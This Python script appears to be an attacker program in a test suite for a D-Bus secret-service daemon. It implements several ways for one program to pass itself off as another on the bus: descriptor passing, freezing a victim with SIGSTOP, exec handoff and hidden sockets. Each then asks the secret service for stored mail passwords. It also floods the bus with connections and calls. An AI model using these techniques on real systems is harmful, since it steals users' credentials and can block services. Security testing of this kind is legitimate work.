# What a program of the user tries on the bus to be taken for another one.
# SPDX-License-Identifier: Apache-2.0
import contextlib
import ctypes
import os
import resource
import select
import signal
import socket
import subprocess
import sys
import threading
import time

import gi

gi.require_version("Gio", "2.0")
from gi.repository import Gio, GLib  # noqa: E402

DRIVER, DRIVER_OBJECT = "org.freedesktop.DBus", "/org/freedesktop/DBus"
SERVICE, OBJECT, INTERFACE = "org.freedesktop.secrets", "/org/freedesktop/secrets", "org.freedesktop.Secret.Service"
PASSING = Gio.DBusCapabilityFlags.UNIX_FD_PASSING
AGREED = b"AGREE_UNIX_FD\r\n"


def whole(data):
    """The first message of some bytes, and what is behind it; None if it is not whole."""
    size = Gio.DBusMessage.bytes_needed(data[:16]) if len(data) >= 16 else -1
    return (Gio.DBusMessage.new_from_blob(data[:size], PASSING), data[size:]) if 0 < size <= len(data) else None


class Connection:
    """A connection to a bus whose socket is at hand."""

    def __init__(self, path=None, taken=None, user=None):
        self.serial, self.data, self.name = 10, b"", None
        if taken is not None:
            self.socket = socket.socket(fileno=taken)
            return
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect(path)
        self.greet(user)

    def greet(self, user=None):
        """Gets a name."""
        user = str(user or os.getuid()).encode().hex().encode()
        self.socket.sendall(b"\0AUTH EXTERNAL " + user + b"\r\nNEGOTIATE_UNIX_FD\r\nBEGIN\r\n")
        hello = self.begun(DRIVER, DRIVER_OBJECT, DRIVER, "Hello")
        while AGREED not in self.data:
            self.data += self.socket.recv(4096) or sys.exit("the bus refuses the connection")
        self.data = self.data[self.data.index(AGREED) + len(AGREED):]
        self.name = self.answer(hello).get_body()[0]

    def sent(self, message, descriptors=()):
        self.serial += 1
        message.set_serial(self.serial)
        if descriptors:
            listed = Gio.UnixFDList.new()
            for descriptor in descriptors:
                listed.append(descriptor)
            message.set_unix_fd_list(listed)
        data = bytes(message.to_blob(PASSING))
        if descriptors:
            socket.send_fds(self.socket, [data], descriptors)
        else:
            self.socket.sendall(data)
        return self.serial

    def begun(self, to, path, interface, member, body=None, descriptors=()):
        message = Gio.DBusMessage.new_method_call(to, path, interface, member)
        if body is not None:
            message.set_body(body)
        return self.sent(message, descriptors)

    def answer(self, serial, seconds=20):
        ends = time.monotonic() + seconds
        while True:
            found = whole(self.data)
            if found:
                message, self.data = found
                if message.get_reply_serial() == serial:
                    return message
            else:
                # select(2) takes no numbers above 1023.
                waiting = select.poll()
                waiting.register(self.socket, select.POLLIN)
                part = self.socket.recv(65536) if waiting.poll(1000 * max(0, ends - time.monotonic())) else b""
                if not part:
                    sys.exit("no answer")
                self.data += part

    def call(self, *words):
        return self.answer(self.begun(*words))

    def signal(self, to, size):
        message = Gio.DBusMessage.new_signal("/x", "org.example.Filling", "Fill")
        message.set_destination(to)
        message.set_body(GLib.Variant("(ay)", (bytes(size),)))
        self.sent(message)

    def hold(self, to, descriptor):
        """Passes a descriptor to another connection, in whose queue it stays if that does not read."""
        self.begun(to, "/x", "org.example.Holding", "Hold", GLib.Variant("(h)", (0,)), [descriptor])
        self.call(DRIVER, DRIVER_OBJECT, DRIVER, "GetId")


def sockets(process):
    found = set()
    try:
        for number in os.listdir(f"/proc/{process}/fd"):
            try:
                found.add(os.readlink(f"/proc/{process}/fd/{number}"))
            except FileNotFoundError:
                pass
    except OSError:
        pass
    return found


def drop(link):
    """Closes a socket, also the copies that a library has made."""
    for number in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{number}") == link:
                os.close(int(number))
        except OSError:
            pass


class Aside:
    """A descriptor that is on its way from one end to the other, where nobody sees it."""

    def __init__(self, descriptor):
        self.here, self.there = socket.socketpair()
        self.put(descriptor)

    def put(self, descriptor):
        socket.send_fds(self.here, [b"."], [descriptor])
        os.close(descriptor)

    def take(self):
        return socket.recv_fds(self.there, 1, 1)[1][0]


class Hidden(Connection):
    """A connection that nobody is seen to have but while something is sent or received."""

    def __init__(self, taken):
        super().__init__(taken=taken)
        self.aside = Aside(self.socket.detach())

    def call(self, *words):
        self.socket = socket.socket(fileno=self.aside.take())
        serial = self.begun(*words)
        self.aside.put(self.socket.detach())
        time.sleep(1)
        self.socket = socket.socket(fileno=self.aside.take())
        answer = self.answer(serial)
        self.aside.put(self.socket.detach())
        return answer


def steal(connection):
    """What a connection gets that is to be taken for another program."""
    answer = connection.call(SERVICE, OBJECT, INTERFACE, "OpenSession", GLib.Variant("(sv)", ("plain", GLib.Variant("s", ""))))
    words, values = answer.get_error_name(), {}
    if words is None:
        session = answer.get_body()[1]
        answer = connection.call(SERVICE, OBJECT, INTERFACE, "SearchItems", GLib.Variant("(a{ss})", ({"service": "mail"},)))
        words = answer.get_error_name()
    if words is None:
        found = answer.get_body()
        answer = connection.call(SERVICE, OBJECT, INTERFACE, "GetSecrets", GLib.Variant("(aoo)", (found[0] + found[1], session)))
        words = answer.get_error_name()
        values = answer.get_body()[0] if words is None else {}
    print("asked:", [bytes(value[2]).decode() for value in values.values()], words or "", flush=True)


def moved(path, helper, bus):
    """Answers the handshake of latchkey-session, and passes the connection to the bus, which holds it from then on."""
    listening = socket.socket(socket.AF_UNIX)
    own = os.environ["HOME"] + "/own-bus"
    listening.bind(own)
    listening.listen(1)
    started = subprocess.Popen([helper], env={**os.environ, "DBUS_SESSION_BUS_ADDRESS": f"unix:path={own}"}, stderr=subprocess.PIPE, text=True)
    here = listening.accept()[0]
    data = b""
    while b"BEGIN\r\n" not in data:
        data += here.recv(1) or sys.exit("the daemon refuses the connection")
        if data.count(b"\r\n") == 1 and data.endswith(b"\r\n"):
            here.sendall(b"DATA\r\nOK " + b"0123456789abcdef" * 2 + b"\r\n" + AGREED)
    data = b""
    while not whole(data):
        data += here.recv(4096) or sys.exit("the daemon refuses the connection")
    answer = Gio.DBusMessage.new_method_reply(whole(data)[0])
    answer.set_sender(DRIVER)
    answer.set_destination(":1.77")
    answer.set_body(GLib.Variant("(s)", (":1.77",)))
    answer.set_serial(1)
    sender, reader = Connection(path), Connection(path)
    for _ in range(12):
        sender.signal(reader.name, 100_000)
    sender.hold(reader.name, here.fileno())
    link = os.readlink(f"/proc/self/fd/{here.fileno()}")
    print("the bus holds it:", link in sockets(bus), flush=True)
    # The last byte is sent when nobody else can be seen to have the connection.
    descriptor = os.dup(here.fileno())
    here.detach()
    aside, there = socket.socketpair()
    socket.send_fds(aside, [b"."], [descriptor])
    os.write(descriptor, bytes(answer.to_blob(PASSING)))
    drop(link)
    try:
        _, words = started.communicate(timeout=20)
    except subprocess.TimeoutExpired:
        started.kill()
        words = "it goes on"
    print("the helper:", words.strip(), flush=True)
    there.close()


def parked(path, victim):
    """A victim that is stopped has one of two connections that its process has made, and one of another process."""
    own, other = Connection(path), Connection(path)
    for _ in range(40):
        ours, theirs = socket.socketpair()
        process = subprocess.Popen([sys.executable, __file__, "become", path, victim, str(theirs.fileno())], pass_fds=[theirs.fileno()],
                                   stdout=subprocess.DEVNULL)
        left = Connection(taken=socket.recv_fds(ours, 100, 1)[1][0])
        try:
            if place(own, other, process):
                steal(left)
                print("parked", flush=True)
                return
        finally:
            process.kill()
            process.wait()
    sys.exit("the victim is too quick")


def place(own, other, process):
    """Stops the victim once it has a name, and puts another connection into it."""
    known = set(own.call(DRIVER, DRIVER_OBJECT, DRIVER, "ListNames").get_body()[0])
    ends = time.monotonic() + 5
    while time.monotonic() < ends and process.poll() is None:
        new = [name for name in own.call(DRIVER, DRIVER_OBJECT, DRIVER, "ListNames").get_body()[0] if name[0] == ":" and name not in known]
        if not new:
            continue
        process.send_signal(signal.SIGSTOP)
        extra = os.dup(other.socket.fileno())
        for _ in range(20):
            own.begun(new[0], "/x", "org.example.Holding", "Hold", GLib.Variant("(h)", (0,)), [extra])
        own.call(DRIVER, DRIVER_OBJECT, DRIVER, "GetId")
        os.close(extra)
        return process.poll() is None
    return False


def become(path, victim, number):
    """Connects, gives the connection away and becomes the victim."""
    connection = Connection(path)
    socket.send_fds(socket.socket(fileno=int(number)), [b"."], [connection.socket.fileno()])
    os.execv(victim, [victim, "lookup", "service", "mail"])


def handed(path, victim, way, user=None):
    """A victim that takes descriptors is given the connection that its process has made, which has no name until then."""
    ours, theirs = socket.socketpair()
    user = None if user is None else int(user)
    process = subprocess.Popen([sys.executable, __file__, "unnamed", path, victim, str(theirs.fileno())], pass_fds=[theirs.fileno()], user=user,
                               group=user, extra_groups=None if user is None else [])
    if user is not None:
        # More than are read of a process. A user who has numbers of groups (subgid(5)) gets them in a namespace.
        os.setgroups(range(100_000, 165_536))
        os.setresgid(user, user, user)
        os.setresuid(user, user, user)
    left = socket.recv_fds(ours, 1, 1)[1][0]
    while os.readlink(f"/proc/{process.pid}/exe") != victim:
        time.sleep(0.01)
    socket.send_fds(ours, [b"."], [left])
    ours.recv(1)
    print("it has it:", any(link in sockets(process.pid) for link in [os.readlink(f"/proc/self/fd/{left}")]), flush=True)
    if way == "frozen":
        # Whoever started this may freeze it; a user can do so in groups of their own.
        print("freeze", process.pid, flush=True)
        sys.stdin.readline()
    try:
        if way == "thread":
            thread = threading.Thread(target=from_thread, args=(left,))
            thread.start()
            thread.join()
        else:
            connection = Connection(taken=left)
            connection.greet()
            steal(connection if way == "plain" else Hidden(connection.socket.detach()))
    finally:
        process.kill()


def from_thread(left):
    """Has a connection in descriptors of its own, which are not those of the process."""
    libc = ctypes.CDLL(None, use_errno=True)
    aside = Aside(left)
    assert libc.unshare(0x400) == 0, "CLONE_FILES"
    connection = Connection(taken=aside.take())
    connection.greet()
    steal(connection)


def unnamed(path, victim, number):
    """Connects and says nothing, gives the connection away and becomes the victim."""
    other, connection = socket.socket(fileno=int(number)), socket.socket(socket.AF_UNIX)
    connection.connect(path)
    socket.send_fds(other, [b"."], [connection.fileno()])
    os.dup2(other.fileno(), 3)
    os.execv(victim, [victim])


def later(path):
    """A program that has a connection for a while before it asks."""
    connection = Connection(path)
    print(connection.name, flush=True)
    sys.stdin.readline()
    steal(connection)


def again(path):
    """The same, which is executed anew meanwhile, and closes nothing."""
    connection = Connection(path)
    print(connection.name, flush=True)
    sys.stdin.readline()
    os.set_inheritable(connection.socket.fileno(), True)
    os.execv(sys.executable, [sys.executable, __file__, "resumed", str(connection.socket.fileno())])


def resumed(number):
    os.set_inheritable(int(number), False)
    print("resumed", flush=True)
    sys.stdin.readline()
    steal(Connection(taken=int(number)))


def stay(path, user):
    """A connection of a process, which says so and waits. It may not know any more who it is to others."""
    connection = Connection(path, user=user)
    print(connection.name, flush=True)
    signal.pause()


def crowd(path, count):
    """Connections without end, all with names: says how many there are, and keeps them."""
    held = []
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    with contextlib.suppress(SystemExit, OSError):
        for _ in range(int(count)):
            held.append(Connection(path))
    print(len(held), flush=True)
    signal.pause()


def greedy(path, count):
    """Calls as much as it can over many connections: with four calls under way on each."""
    connections = [Connection(path) for _ in range(int(count))]
    poller = select.poll()
    by_number = {connection.socket.fileno(): connection for connection in connections}
    search = GLib.Variant("(a{ss})", ({"kind": "many"},))
    for connection in connections:
        for _ in range(4):
            connection.begun(SERVICE, OBJECT, INTERFACE, "SearchItems", search)
        poller.register(connection.socket, select.POLLIN)
    print("calls", flush=True)
    while True:
        for number, _ in poller.poll():
            connection = by_number[number]
            connection.data += connection.socket.recv(1 << 18) or sys.exit("the bus closes a connection")
            while found := whole(connection.data):
                connection.data = found[1]
                if found[0].get_message_type() in (Gio.DBusMessageType.METHOD_RETURN, Gio.DBusMessageType.ERROR):
                    connection.begun(SERVICE, OBJECT, INTERFACE, "SearchItems", search)


if __name__ == "__main__":
    {"moved": moved, "parked": parked, "become": become, "stay": stay, "handed": handed,
     "unnamed": unnamed, "later": later, "again": again, "resumed": resumed, "crowd": crowd, "greedy": greedy}[sys.argv[1]](*sys.argv[2:])
